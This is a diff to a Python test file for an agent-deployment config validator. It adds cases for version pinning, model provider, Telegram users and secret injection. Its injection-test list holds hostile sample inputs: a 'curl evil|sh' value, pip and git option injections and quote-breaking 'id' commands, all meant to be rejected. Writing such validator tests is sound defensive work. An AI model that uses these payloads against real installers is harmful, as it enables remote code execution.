@@ -51,10 +51,29 @@ CASES = [
      "too small"),
     ("bad reboot time", lambda c: c.update({"agentctl:maintenance": {"rebootTime": "25:00"}}),
      "agentctl:maintenance.rebootTime", "'25:00' is not in the expected form; expected a time of day, HH:MM, e.g. 03:30"),
-    ("two runtimes", lambda c: _agent(c)["runtime"].update(hermes={"version": "v1"}), "agentctl:agents[0].runtime",
+    ("two runtimes", lambda c: _agent(c)["runtime"].update(hermes=_HERMES_OK), "agentctl:agents[0].runtime",
      "exactly one"),
-    ("unpinned hermes", lambda c: _agent(c).update(runtime={"hermes": {}}), "agentctl:agents[0].runtime.hermes",
-     "pin Hermes"),
+    ("unpinned hermes", lambda c: _agent(c).update(runtime={"hermes": {k: v for k, v in _HERMES_OK.items()
+                                                                        if k != "version"}}),
+     "agentctl:agents[0].runtime.hermes.version", "required"),
+    ("hermes git tag", lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "version": "v2026.11.0"}}),
+     "agentctl:agents[0].runtime.hermes.version", "expected '2026.11.0'"),
+    ("hermes model base url it would ignore",
+     lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "model": {"name": "m",
+                                                                             "baseUrl": "https://llm.example/v1"}}}),
+     "agentctl:agents[0].runtime.hermes.model.baseUrl", "silently replace"),
+    ("hermes provider not supported",
+     lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "model": {"name": "m", "provider": "openai"}}}),
+     "agentctl:agents[0].runtime.hermes.model.provider", "'anthropic'"),
+    ("secret path prefix not a path",
+     lambda c: _agent(c)["egress"]["secrets"][0].update(inject={"path_prefix": "bot"}),
+     "agentctl:agents[0].egress.secrets[0].inject.path_prefix", "'bot' is not in the expected form; expected a plain path starting with /"),
+    ("secret in the path and a header",
+     lambda c: _agent(c)["egress"]["secrets"][0].update(inject={"path_prefix": "/bot", "header": "x"}),
+     "agentctl:agents[0].egress.secrets[0].inject", "expected exactly one of header (e.g. Authorization), query_param (e.g. key) or path_prefix (e.g. /bot)"),
+    ("hermes nobody may talk to it",
+     lambda c: _agent(c).update(runtime={"hermes": {**_HERMES_OK, "telegram": {"allowedUsers": []}}}),
+     "agentctl:agents[0].runtime.hermes.telegram.allowedUsers", "at least 1"),
     ("two agents on one address", lambda c: c["agentctl:agents"].append(dict(copy.deepcopy(_agent(c)), name="other",
                                                                               hostNumber=11)),
      "agentctl:agents[1]", "would take address .11"),
@@ -66,6 +85,7 @@ CASES = [
      "agentctl:tailscale.authKey", "expected a reference to a Pulumi secret, {config: NAME}"),
 ]
 
+_HERMES_OK = {"version": "0.19.0", "model": {"name": "claude-sonnet-4-5"}, "telegram": {"allowedUsers": [1]}}
 _ENV = lambda env: lambda c: _agent(c)["runtime"]["command"].update(environment=env)  # noqa: E731
 _HERMES = lambda **kw: lambda c: _agent(c).update(runtime={"hermes": kw})  # noqa: E731
 
@@ -93,14 +113,14 @@ INJECTIONS = [
      "agentctl:agents[0].runtime.command.environment.HTTPS_PROXY", "set by agentctl"),
     ("exec with newline", lambda c: _agent(c)["runtime"]["command"].update(exec="/bin/agent\nUser=root"),
      "agentctl:agents[0].runtime.command.exec", "control character"),
-    ("hermes version shell", _HERMES(version="v1; curl evil|sh"), "agentctl:agents[0].runtime.hermes.version",
-     "git tag name"),
-    ("hermes version option", _HERMES(version="--upload-pack=touch /tmp/x"),
-     "agentctl:agents[0].runtime.hermes.version", "git tag name"),
-    ("hermes repo quote", _HERMES(repo="https://github.com/x/y' ; id ; '", version="v1"),
-     "agentctl:agents[0].runtime.hermes.repo", "percent-encode"),
-    ("hermes repo ssh", _HERMES(repo="ext::sh -c touch% /tmp/x", version="v1"),
-     "agentctl:agents[0].runtime.hermes.repo", "whitespace"),
+    ("hermes version shell", _HERMES(**{**_HERMES_OK, "version": "1.0; curl evil|sh"}),
+     "agentctl:agents[0].runtime.hermes.version", "not a version"),
+    ("hermes version option", _HERMES(**{**_HERMES_OK, "version": "--index-url=https://evil"}),
+     "agentctl:agents[0].runtime.hermes.version", "not a version"),
+    ("hermes index quote", _HERMES(**{**_HERMES_OK, "index": "https://pypi.example/simple' ; id ; '"}),
+     "agentctl:agents[0].runtime.hermes.index", "percent-encode"),
+    ("hermes index option", _HERMES(**{**_HERMES_OK, "index": "--trusted-host=evil"}),
+     "agentctl:agents[0].runtime.hermes.index", "https"),
     ("pip spec quote", lambda c: c["agentctl:proxy"].update(install={"pip": "agentctl-proxy'; id; '"}),
      "agentctl:proxy.install.pip", "quote"),
 ]
@@ -222,7 +242,7 @@ def test_secret_reference_must_exist():
 
 def test_secure_values_are_tracked_not_read():
     d = from_config(AWS, "Pulumi.t.yaml")
-    assert d.secure_keys == {"githubPat", "anthropicKey"}
+    assert d.secure_keys == {"githubPat", "anthropicKey", "telegramBotToken"}
     assert "placeholder" not in d.model_dump_json()
 
 
